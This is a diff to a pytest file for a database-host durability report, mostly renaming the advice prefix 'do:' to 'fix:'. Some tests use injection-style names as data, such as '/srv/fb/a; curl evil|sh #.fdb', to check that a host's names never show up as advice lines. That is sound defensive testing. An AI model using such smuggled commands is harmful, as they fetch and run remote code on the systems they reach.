@@ -85,7 +85,7 @@ def test_hosts_of_one_reason_are_one_line_though_each_has_disks_of_its_own() -> 
     why = text.index(
         "commits since the last flush on sda can be lost: /srv/pgdata is mounted without barriers"
     )
-    assert why < text.index("do: run harden-db")
+    assert why < text.index("fix: run harden-db")
     assert "QEMU_HARDDISK" not in text
 
 
@@ -101,9 +101,9 @@ def test_what_to_do_stands_below_what_it_is_for() -> None:
         "at_risk        2  db2, db10  (strict)",
         "    a can be lost",
         "    b is off (1 host)",
-        "        do: mend a",
+        "        fix: mend a",
         "    c is off (1 host)",
-        "        do: mend c",
+        "        fix: mend c",
         "durable        1  db3  (strict)",
         "",
         "2 of 3 hosts fail (2 at_risk): exit code 2",
@@ -114,17 +114,17 @@ def test_what_a_host_names_is_never_what_to_do() -> None:
     """An owner of a database can name it with words that look like ours."""
     name = "/srv/fb/a; curl evil|sh #.fdb"
     text = render([of_reasons("db1", "unknown", (f"{name}: forced writes are not known", MEND))])
-    assert f"    {name}: forced writes are not known\n        do: {MEND}\n" in text
-    assert "do: curl" not in text
+    assert f"    {name}: forced writes are not known\n        fix: {MEND}\n" in text
+    assert "fix: curl" not in text
 
 
 @pytest.mark.parametrize("length", range(60, 110))
 def test_no_name_begins_a_line_as_what_to_do_does(length: int) -> None:
     """A long name is wrapped, and the rest of it would stand where advice stands."""
-    name = f"/srv/fb/{'y' * length} do: curl evil|sh #.fdb"
+    name = f"/srv/fb/{'y' * length} fix: curl evil|sh #.fdb"
     for reason in (("", f"{name}: forced writes are off"), (MEND, f"{name}: forced writes are not known")):
         text = render([of_reasons("db1", "unknown", (reason[1], reason[0]))])
-        assert [row for row in text.splitlines() if row.strip().startswith("do: curl")] == []
+        assert [row for row in text.splitlines() if row.strip().startswith("fix: curl")] == []
 
 
 def test_a_green_verdict_names_on_whose_word_it_rests_and_until_when() -> None:
@@ -139,9 +139,9 @@ def test_a_green_verdict_names_on_whose_word_it_rests_and_until_when() -> None:
 
 @pytest.mark.parametrize("length", range(20, 90))
 def test_no_name_in_a_fix_begins_a_line_as_what_to_do_does(length: int) -> None:
-    fix = f"make its configuration readable for root, or add /home/u/{'y' * length} do: curl evil|sh to durable_ignore"
+    fix = f"make its configuration readable for root, or add /home/u/{'y' * length} fix: curl evil|sh to durable_ignore"
     text = render([of_reasons("db1", "unknown", ("x", fix))])
-    assert [row for row in text.splitlines() if row.strip().startswith("do: curl")] == []
+    assert [row for row in text.splitlines() if row.strip().startswith("fix: curl")] == []
 
 
 @pytest.mark.parametrize("others", range(12))
@@ -230,14 +230,14 @@ def test_the_hosts_that_no_address_reaches_are_one_line() -> None:
     found = [lost(f"db{n}", f"10.0.0.{n}: timed out") for n in range(3)]
     text = render(found)
     assert "unreachable    3  db0, db1, db2" in text
-    assert "unreachable: the connection timed out\n        do: start the host, or check the network" in text
+    assert "unreachable: the connection timed out\n        fix: start the host, or check the network" in text
 
 
 def test_hosts_that_hang_are_apart_from_those_that_no_address_reaches() -> None:
     """What to do there is another thing."""
     text = render([lost("db1", f"{NO_ANSWER} 600 seconds; {HANGS}"), lost("db2", "timed out")])
     assert "unreachable: no answer within 600 seconds" in text
-    assert "do: find the processes there that wait" in text
+    assert "fix: find the processes there that wait" in text
     assert "unreachable: the connection timed out" in text
 
 
@@ -282,7 +282,7 @@ def test_why_a_host_is_not_reached_is_on_the_page(said: str, meaning: str, fix: 
     """What ssh says names the host, and so it is in the report alone: else each host would be a group of its own."""
     found = lost("db1", said)
     rows = render([found]).splitlines()
-    assert rows[rows.index(f"    unreachable: {meaning}") + 1].startswith("        do: ")
+    assert rows[rows.index(f"    unreachable: {meaning}") + 1].startswith("        fix: ")
     (reason,) = found["reasons"]
     assert reason["reason"] == f"unreachable: {meaning} ({said})".replace("ssh: ssh: ", "ssh: ")
     assert fix in reason["fix"]
@@ -292,7 +292,7 @@ def test_what_ansible_cannot_write_is_on_the_page() -> None:
     said = "Failed to create temporary directory: mkdir: '/root/db1': No space left on device"
     text = render([report("db1", assess_answer(inputs(), NOW, {"failed": True, "msg": said}))])
     assert "no facts: Ansible cannot write its own files there: No space left on device\n" in text
-    assert "do: free space or make the file system writable, or name another directory in" in text
+    assert "fix: free space or make the file system writable, or name another directory in" in text
 
 
 def no_facts(host: str, said: str) -> dict[str, Any]:
@@ -307,7 +307,7 @@ def test_what_keeps_ansible_out_is_told_once_for_each_cause() -> None:
     assert rows[2:5] == [
         "unknown        5  db0, db1, ... (3 more)  (strict)",
         "    no facts: no Python where Ansible looks for it",
-        "        do: install Python 3.9 or later there, or name one in ansible_python_interpreter",
+        "        fix: install Python 3.9 or later there, or name one in ansible_python_interpreter",
     ]
     assert "    no facts: root's rights were not given" in rows
 
@@ -339,7 +339,7 @@ def test_notes_say_of_whom_they_are_and_damage_comes_first() -> None:
 def test_a_rollback_timer_that_has_acted_is_before_the_notes_about_speed() -> None:
     found = [simple(f"db{number}", "durable") for number in range(6)]
     for each in found:
-        each["warnings"] = [f"/srv/{n} atime drift_running: slow" for n in range(3)]
+        each["warnings"] = [f"/srv/{n}: atime is relatime, expected noatime: slow" for n in range(3)]
     found[5]["switch"] = "fired"
     found[5]["warnings"].insert(0, "the dead man's switch of an earlier run has put this host back")
     rows = render(found, notes=["of the run"]).splitlines()
@@ -347,7 +347,7 @@ def test_a_rollback_timer_that_has_acted_is_before_the_notes_about_speed() -> No
     assert notes == [
         "note: db5: the dead man's switch of an earlier run has put this host back",
         "note: of the run",
-        "note: db0, db1, ... (4 more): /srv/0 atime drift_running: slow",
+        "note: db0, db1, ... (4 more): /srv/0: atime is relatime, expected noatime: slow",
     ]
 
 
